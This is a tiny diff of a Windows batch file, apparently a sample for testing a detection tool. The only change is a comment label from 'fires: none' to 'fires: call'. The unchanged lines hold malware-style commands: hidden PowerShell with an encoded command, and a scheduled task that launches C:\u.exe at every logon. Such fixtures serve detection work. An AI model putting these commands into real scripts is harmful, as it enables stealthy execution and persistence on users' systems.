@@ -2,4 +2,4 @@
 @echo off
 powershell -w hidden -EncodedCommand ZQBjAGgAbwAgADEA
 schtasks /create /sc onlogon /tn U /tr C:\u.exe
-:: fires: none @0
+:: fires: call @0
